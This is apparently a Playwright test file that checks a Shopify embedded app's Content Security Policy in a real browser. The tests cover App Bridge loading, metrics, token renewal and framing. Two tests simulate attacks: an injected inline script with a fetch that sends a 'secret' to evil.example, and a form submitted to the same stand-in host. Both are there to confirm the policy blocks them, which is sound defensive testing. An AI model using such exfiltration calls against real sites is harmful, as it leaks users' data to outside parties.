import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Frame } from "playwright-core";
import { expectComplaint, expectedComplaintsCame } from "../complaints.ts";
import { samplesOf } from "../http/metrics/samples.ts";
import { findBrowser } from "./browser.ts";
import { startJobStage, STORE } from "./job-stage.ts";
import type { JobStage } from "./job-stage.ts";
import { byTurns } from "../whole.ts";

/**
 * The policy for scripts as it is in production, in a real browser: App Bridge comes from Shopify's own address, at which the sandbox's
 * stands here. A page's complaint about the policy fails the test, as any other does.
 */

const executable = findBrowser();
const CDN = "https://cdn.shopify.com";
const PATHS = ["/app", "/app/origins", "/app/settings", "/app/review", "/app/address-book", "/app/activity"];

describe.skipIf(!executable)("under the policy of production", () => {
  let stage: JobStage;
  const fromCdn: string[] = [];

  beforeAll(async () => {
    stage = await startJobStage(executable!, { appEnv: { APP_BRIDGE_URL: "", METRICS_PORT: "0" } });
    const { adminUrl } = stage.sandbox;
    // It knows the admin by where it was loaded from.
    const place = "scriptElement.src";
    const original = await (await fetch(`${adminUrl}/app-bridge.js`)).text();
    expect(original).toContain(place);
    const appBridge = original.replaceAll(place, JSON.stringify(adminUrl));
    await stage.tab.context.route(`${CDN}/**`, async (route) => {
      const { pathname } = new URL(route.request().url());
      fromCdn.push(pathname);
      const isScript = pathname.endsWith(".js");
      await route.fulfill({ contentType: isScript ? "text/javascript" : "text/css", body: isScript ? appBridge : "" });
    });
  });
  afterAll(() => stage?.close());

  const shown = async (app: Frame) => {
    await app.locator("h1").first().waitFor();
    // App Bridge draws the title bar's navigation from here; without it nothing in the frame is signed.
    expect(await app.evaluate(() => typeof (window as { shopify?: object }).shopify)).toBe("object");
  };

  test.each(byTurns(PATHS, 0))("%s works", async (path) => {
    await shown(await stage.open(path));
  });

  test("a page leads on to the next without a new document, and its form is sent", async () => {
    const app = await stage.open("/app/settings");
    await app.getByLabel("Contact name").fill("Marisol Cervantes");
    await stage.page.getByRole("button", { name: "Save", exact: true }).click();
    await stage.page.getByRole("button", { name: "Save", exact: true }).waitFor({ state: "hidden" });
    expect(fromCdn).toContain("/shopifycloud/app-bridge.js");
  });

  test("what App Bridge measures of a page comes to the operator's metrics", async () => {
    await shown(await stage.open("/app/activity"));
    const log = readFileSync(stage.sandbox.app.logFile, "utf8").split("\n");
    const { port } = JSON.parse(log.find((line) => line.includes("metrics are served"))!) as { port: number };
    const samples = async () => samplesOf(await (await fetch(`http://127.0.0.1:${port}/metrics`)).text());
    const series = 'origen_page_vital_seconds_count{page="routes/app.activity",vital="TTFB"}';
    await expect.poll(async () => (await samples()).get(series)).toBeGreaterThan(0);
  });

  test("a frame that lost its session token gets a new one", async () => {
    const app = await stage.open("/app/origins");
    await app.evaluate(() => {
      const address = new URL(location.href);
      address.searchParams.delete("id_token");
      location.replace(address);
    });
    await expect.poll(async () => (await stage.tab.app()).locator("h1").first().textContent()).toBeTruthy();
    await shown(await stage.tab.app());
  });

  test("no script runs that is not the app's, and nothing is told to a stranger", async () => {
    const app = await stage.open("/app");
    await shown(app);
    expectComplaint(/script-src/);
    // One refused `fetch` brings both.
    expectComplaint(/connect-src/);
    expectComplaint(/Fetch API cannot load/);
    const ran = await app.evaluate(async () => {
      const inline = document.createElement("script");
      inline.textContent = "window.planted = true";
      document.body.append(inline);
      const told = await fetch("https://evil.example/?secret=1").then(
        () => true,
        () => false,
      );
      return { planted: "planted" in window, told };
    });
    expect(ran).toEqual({ planted: false, told: false });
    await expectedComplaintsCame();
  });

  test("no form is sent to a stranger", async () => {
    const app = await stage.open("/app");
    await shown(app);
    expectComplaint(/form-action/);
    const directive = await app.evaluate(async () => {
      const violated = new Promise<string>((done) =>
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective)),
      );
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
      return violated;
    });
    expect(directive).toBe("form-action");
    await expectedComplaintsCame();
  });

  test("nobody but the admin frames it", async () => {
    expectComplaint(/frame-ancestors/);
    const address = new URL("/auth/login", stage.sandbox.appUrl).href;
    await stage.page.goto(`${stage.sandbox.adminUrl}/store/${STORE}`);
    const framed = await stage.page.evaluate(async (src) => {
      const frame = document.createElement("iframe");
      const loaded = new Promise((done) => frame.addEventListener("load", done));
      frame.src = src;
      document.body.append(frame);
      await loaded;
      return frame.contentDocument?.body.textContent ?? "";
    }, address);
    expect(framed).not.toContain("Open Origen");
    await expectedComplaintsCame();
  });
});
